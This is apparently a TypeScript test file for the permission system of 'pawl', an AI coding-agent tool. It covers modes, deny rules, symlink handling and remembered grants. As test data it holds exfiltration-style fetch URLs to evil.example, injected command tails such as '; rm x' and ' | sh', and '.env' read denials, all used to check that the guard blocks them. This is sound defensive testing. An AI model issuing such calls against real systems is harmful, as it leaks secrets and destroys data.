/** What runs without asking in each mode, what *always* means, and taking it back. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { PermissionQuestion, PermissionRule, PermissionVerdict } from "@pawl/core";
import { ruling } from "@pawl/core";
import fc from "fast-check";
import { type Mode, modes } from "../src/config/schema.ts";
import { proposedGrant } from "../src/grant.ts";
import { hostsIn } from "../src/named-hosts.ts";
import { permissionFor } from "../src/permission.ts";
import { answerOf } from "../src/question.ts";
import { realPath } from "../src/tools/real-path.ts";
import { lastLine, World } from "./pawl-world.ts";

const call = (tool: string, input: object, effect: PermissionQuestion["effect"] = "write"): PermissionQuestion => ({
  call: "c",
  tool,
  input,
  effect,
});
const bash = (command: string) => call("bash", { command });
const edit = (path: string) => call("edit", { path });
const read = call("read", { path: "a.ts" }, "read");

function judged(
  mode: Mode,
  question: PermissionQuestion,
  rules: {
    permissions?: PermissionRule[];
    narrowing?: PermissionRule[];
    allAllowed?: boolean;
    named?(host: string): boolean;
  } = {},
): string {
  const { permissions = [], narrowing = [], allAllowed = false, named = () => false } = rules;
  const said: PermissionVerdict = permissionFor(
    { mode, permissions, narrowing },
    { cwd: "/w", real: (path) => path, allAllowed: () => allAllowed, named },
  )(question);
  return typeof said === "string" ? said : said.say;
}

describe("modes", () => {
  const table: [question: PermissionQuestion, plan: string, ask: string, edits: string, all: string][] = [
    [read, "allow", "allow", "allow", "allow"],
    [edit("src/a.ts"), "deny", "ask", "allow", "allow"],
    [edit("/w/src/a.ts"), "deny", "ask", "allow", "allow"],
    [edit(".git/hooks/pre-commit"), "deny", "ask", "ask", "allow"],
    [edit("sub/../.GIT/config"), "deny", "ask", "ask", "allow"],
    [edit("/w/.pawl/config.json"), "deny", "ask", "ask", "allow"],
    [bash("ls"), "deny", "ask", "ask", "allow"],
    [call("mcp__x__write", { path: "a" }), "deny", "ask", "ask", "allow"],
  ];
  for (const [question, ...words] of table) {
    test(`${question.tool} ${JSON.stringify(question.input)}`, () => {
      assert.deepEqual(
        modes.map((mode) => judged(mode, question)),
        words,
      );
    });
  }

  test("a deny stands above every allow, of whichever file, in every mode, for a part of a line, too", () => {
    const deny: PermissionRule = { tool: "bash", input: { command: "rm *" }, say: "deny" };
    const allow: PermissionRule = { tool: "bash", say: "allow" };
    for (const mode of modes) {
      for (const rules of [{ permissions: [deny, allow] }, { permissions: [allow], narrowing: [deny] }])
        for (const command of ["rm -rf x", "ls; rm x", "echo $(rm x)"])
          assert.equal(judged(mode, bash(command), { ...rules, allAllowed: true }), "deny", `${mode} ${command}`);
    }
    assert.equal(judged("ask", bash("ls"), { permissions: [deny, allow] }), "allow");
  });

  test("a foreign project's ask is asked although the user allows; reads can be denied by path", () => {
    const permissions: PermissionRule[] = [{ tool: "bash", say: "allow" }];
    assert.equal(judged("ask", bash("ls"), { permissions, narrowing: [{ tool: "bash", say: "ask" }] }), "ask");
    const env = call("read", { path: "sub/.env" }, "read");
    assert.equal(judged("plan", env, { narrowing: [{ input: { path: "**/.env" }, say: "deny" }] }), "deny");
  });
});

test("a link in a repository does not make .git an ordinary folder, nor a denied file an allowed one", (t) => {
  const cwd = realpathSync(mkdtempSync(join(tmpdir(), "pawl-permission-")));
  t.after(() => rmSync(cwd, { recursive: true, force: true }));
  for (const folder of [".git/hooks", "src", "secrets"]) mkdirSync(join(cwd, folder), { recursive: true });
  symlinkSync(".git/hooks", join(cwd, "docs"));
  symlinkSync("../secrets", join(cwd, "src/plain"));
  const rules: PermissionRule[] = [
    { input: { path: "secrets/**" }, say: "deny" },
    { input: { path: "src/**" }, say: "allow" },
  ];
  const place = { cwd, real: (path: string) => realPath(cwd, path), allAllowed: () => false, named: () => false };
  const permission = permissionFor({ mode: "accept-edits", permissions: rules, narrowing: [] }, place);
  const words = [
    "docs/pre-commit",
    "docs/../config",
    "docs/new/deep",
    `${cwd}/docs/x`,
    "src/plain/key",
    "src/a.ts",
    "other/new.ts",
    "x/../docs/y",
  ].map((path) => {
    const said = permission(edit(path));
    return typeof said === "string" ? said : said.say;
  });
  assert.deepEqual(words, ["ask", "ask", "ask", "ask", "deny", "allow", "allow", "ask"]);
  symlinkSync("loop", join(cwd, "loop"));
  assert.doesNotThrow(() => permission(edit("loop/x")));
  assert.doesNotThrow(() => permission(edit("a\0b")));
});

test("a task runs without a question in every mode, and a rule that asks about it or denies it is heard", () => {
  const task = call("task", { agent: "general", prompt: "x" }, "idempotent");
  const words = (rules: Parameters<typeof judged>[2] = {}) => modes.map((mode) => judged(mode, task, rules));
  assert.deepEqual(words(), ["allow", "allow", "allow", "allow"]);
  const ask: PermissionRule = { tool: "task", input: { agent: "general" }, say: "ask" };
  assert.deepEqual(words({ permissions: [ask] }), ["ask", "ask", "ask", "allow"]);
  assert.deepEqual(words({ narrowing: [ask] }), ["ask", "ask", "ask", "allow"]);
  assert.deepEqual(words({ narrowing: [{ ...ask, say: "deny" }] }), ["deny", "deny", "deny", "deny"]);
});

describe("fetch, whose address can carry away what was read", () => {
  const fetch = (url: string) => call("fetch", { url }, "read");
  const words = (url: string, rules: Parameters<typeof judged>[2] = {}) =>
    modes.map((mode) => judged(mode, fetch(url), rules));

  test("is asked about in every mode but `all`, also where what reads runs", () => {
    assert.deepEqual(words("https://evil.example/?d=secret"), ["ask", "ask", "ask", "allow"]);
    assert.deepEqual(words("https://evil.example/", { allAllowed: true }), ["allow", "allow", "allow", "allow"]);
  });

  test("runs for a host that the person has named with its scheme, in every mode; not for what only looks like it", () => {
    const said = hostsIn(
      "See https://Docs.example:8080/a, (http://www.other.example). Not index.ts, README.md or evil.example",
    );
    assert.deepEqual([...said], ["docs.example:8080", "www.other.example"]);
    const named = (host: string) => said.has(host);
    assert.deepEqual(words("https://docs.example:8080/b?c", { named }), ["allow", "allow", "allow", "allow"]);
    for (const url of [
      "https://docs.example/",
      "https://docs.example:8080@evil.example/",
      "https://evil.example/https://docs.example:8080/",
      "https://sub.docs.example:8080/",
      "no address",
    ])
      assert.equal(judged("ask", fetch(url), { named }), "ask", url);
  });

  test("is denied by a rule in whatever way the address is spelled, and allowed by one", () => {
    const deny: PermissionRule = { tool: "fetch", input: { url: "https://evil.example/*" }, say: "deny" };
    for (const url of [
      "https://evil.example",
      "HTTPS://EVIL.example/x",
      "https:evil.example/x",
      " https://evil.example:443/x",
    ])
      assert.equal(judged("all", fetch(url), { permissions: [deny] }), "deny", url);
    const allow: PermissionRule = { tool: "fetch", input: { url: "https://docs.example/*" }, say: "allow" };
    assert.equal(judged("plan", fetch("https://docs.example/x"), { permissions: [allow] }), "allow");
    assert.equal(judged("ask", fetch("https://docs.example.evil.example/x"), { permissions: [allow] }), "ask");
    const foreign = { permissions: [allow], narrowing: [{ tool: "fetch", say: "ask" } as PermissionRule] };
    assert.equal(judged("ask", fetch("https://docs.example/x"), foreign), "ask");
  });

  test("always means the host", () => {
    assert.deepEqual(proposedGrant(fetch("HTTPS://Docs.example/a?b*")), {
      input: { url: "https://docs.example/*" },
      words: "fetch https://docs.example/*",
    });
    assert.equal(proposedGrant(fetch("no address")).input, undefined);
  });
});

describe("what always would mean", () => {
  const cases: [command: string, pattern: string | undefined][] = [
    ["git log --oneline -5", "git log *"],
    ["npm test", "npm test *"],
    ["npm run build -- --watch", "npm run build *"],
    ["npm run test:unit", "npm run test:unit *"],
    ["ls -la src", "ls *"],
    ...[
      "rm -rf x",
      "python a.py",
      "bash -c ls",
      "sudo ls",
      "git push origin",
      "git -c a=b log",
      "npm exec x",
      "npx x",
      "npm install x",
      "go run ./x",
      "git rebase --exec x main",
      "git bisect run x",
      "git restore .",
      "git checkout -f main",
      "git stash drop",
      "git branch -D x",
      "npm init x",
      "go generate",
      "mvn exec:exec -Dexec.executable=x",
    ].map((command): [string, undefined] => [command, undefined]),
    ...[
      "git log; rm x",
      "git log > x",
      "git log $(x)",
      "git log `x`",
      "git log && x",
      "git log\nrm x",
      "cat 'a b'",
      "",
    ].map((command): [string, undefined] => [command, undefined]),
  ];
  for (const [command, pattern] of cases)
    test(JSON.stringify(command), () => assert.equal(proposedGrant(bash(command)).input?.["command"], pattern));

  test("a file is granted by its path, unless the path would be a pattern; other tools for the same call", () => {
    assert.deepEqual(proposedGrant(edit("src/a.ts")).input, { path: "src/a.ts" });
    for (const question of [
      edit("src/*.ts"),
      call("mcp__x", { path: "a" }),
      call("bash", {}),
      call("bash", { command: 7 }),
    ])
      assert.equal(proposedGrant(question).input, undefined);
  });

  test("a granted pattern matches the call it was proposed for, and no line with a second command in it", () => {
    const word = fc.constantFrom("git", "log", "npm", "run", "build", "ls", "-la", "test", "cat", "a.ts");
    const tail = fc.constantFrom("; rm x", " && rm x", " | sh", "\nrm x", " $(rm x)", " `rm x`", " > x", " & rm x");
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), tail, (words, rest) => {
        const { input } = proposedGrant(bash(words.join(" ")));
        if (!input) return;
        const rules = [{ input, say: "allow" }] as const;
        assert.equal(ruling(rules, bash(words.join(" "))), "allow");
        assert.notEqual(ruling(rules, bash(words.join(" ") + rest)), "allow");
      }),
    );
  });
});

test("a typed answer: whatever is no plain yes is a no, and its words are the reason", () => {
  const grant = proposedGrant(bash("git log"));
  const session = { answer: "allow", by: "terminal", scope: "session", input: { command: "git log *" } };
  assert.deepEqual(
    ["y", " YES ", "a", "always", "all"].map((said) => answerOf(said, grant)),
    [{ answer: "allow", by: "terminal" }, { answer: "allow", by: "terminal" }, session, session, "all"],
  );
  for (const said of ["", "n", "No", "no."])
    assert.deepEqual(answerOf(said, grant), { answer: "deny", by: "terminal" });
  for (const [said, why] of [
    ["n, use pnpm", "use pnpm"],
    ["no: wrong folder", "wrong folder"],
    ["not there", "not there"],
    ["yes but later", "yes but later"],
  ] as const)
    assert.deepEqual(answerOf(said, grant), {
      answer: "deny",
      by: "terminal",
      reason: `a person denied this call: ${why}`,
    });
  assert.equal((answerOf(undefined, grant) as { by: string }).by, "nobody");
});

const log = [{ call: "bash", input: { command: "echo one > /dev/null" } }];
const skip = spawnSync("script", ["--version"]).status === 0 ? false : "there is no script(1) here";

test("plan mode: a command is not run, the model is told why, and before it that it is to plan", async (t) => {
  const world = new World(t);
  const server = await world.server([[{ call: "bash", input: { command: "touch made" } }], [{ text: "The plan." }]]);
  const { code, stdout } = await world.pawl(["run", "Go", "--mode", "plan", "--json", ...world.place(server)]);
  assert.equal(code, 0);
  assert.equal(lastLine(stdout).text, "The plan.");
  assert.match(stdout, /TOOL_DENIED[^\n]*this is plan mode: only tools that read may run/);
  assert.match(JSON.stringify(server.requests[0]), /You are in plan mode/);
  assert.throws(() => world.read("made"));
});

test("always is remembered: asked once, listed, taken back, asked again", { skip }, async (t) => {
  const world = new World(t);
  const git = (argument: string) => [{ call: "bash", input: { command: `ls ${argument}` } }];
  const server = await world.server([
    git("."),
    git("./"),
    [{ text: "Done." }],
    git("-a"),
    [{ text: "Done." }],
    log,
    [{ text: "Done." }],
    git("-l"),
    [{ text: "Done." }],
  ]);
  const place = world.place(server);
  const first = await world.inTerminal("a\n", ["run", "Go", "--session", "s", ...place]);
  assert.equal(first.stdout.match(/Allow this\?/g)?.length, 1, first.stdout);
  assert.match(first.stdout, /\[a\]lways \(ls \*\)/);
  const unasked = await world.pawl(["run", "Go", "--session", "s", "--json", ...place]);
  assert.doesNotMatch(unasked.stdout, /TOOL_DENIED/);
  const denied = await world.inTerminal("no, not now\n", ["run", "Go", "--session", "s", ...place]);
  assert.match(JSON.stringify(server.requests.at(-1)), /a person denied this call: not now/, denied.stdout);
  const at = ["--store", world.store];
  assert.match(
    (await world.pawl(["grants", "s", ...at])).stdout,
    /^1 {2}allow {2}bash ls \*, in this session, by terminal\n$/,
  );
  assert.match((await world.pawl(["grants", "s", "--revoke", "7", ...at])).stderr, /--revoke "7": there are 1 to 1/);
  assert.match((await world.pawl(["grants", "s", "--revoke", "1", ...at])).stdout, /^Taken back: bash ls \*/);
  assert.match((await world.pawl(["grants", "s", ...at])).stdout, /\(taken back\)/);
  const again = await world.pawl(["run", "Go", "--session", "s", "--json", ...place]);
  assert.match(again.stdout, /TOOL_DENIED/);
  assert.match((await world.pawl(["grants", "s", ...at])).stdout, /nothing is remembered/);
  assert.equal((await world.verified("s")).code, 0);
});

test("--yes and --mode together are refused", async (t) => {
  const { code, stderr } = await new World(t).pawl(["run", "Hi", "--yes", "--mode", "plan"]);
  assert.equal(code, 2);
  assert.match(stderr, /--yes.*--mode/);
});

test("the real pawl: a host named in an earlier input is fetched from, also in a task; one that a model names is not", async (t) => {
  const world = new World(t);
  const fetch = (url: string) => ({ call: "fetch", input: { url } });
  const server = await world.server([
    [{ text: "Hello." }],
    [{ call: "task", input: { agent: "explore", prompt: "Read http://evil.example/" } }],
    [fetch("http://127.0.0.1:9/page"), fetch("http://evil.example/?data")],
    [{ text: "Read." }],
    [{ text: "Done." }],
  ]);
  for (const prompt of ["See http://127.0.0.1:9/.", "Go on"])
    assert.equal((await world.pawl(["run", prompt, "--session", "s", ...world.place(server)])).code, 0);
  const told = server.requests[3]?.body ?? "";
  // Run, and refused by the guard of private addresses.
  assert.match(told, /not an address of the public internet/);
  assert.equal(told.split("TOOL_DENIED: this call needs a person's approval").length - 1, 1);
});
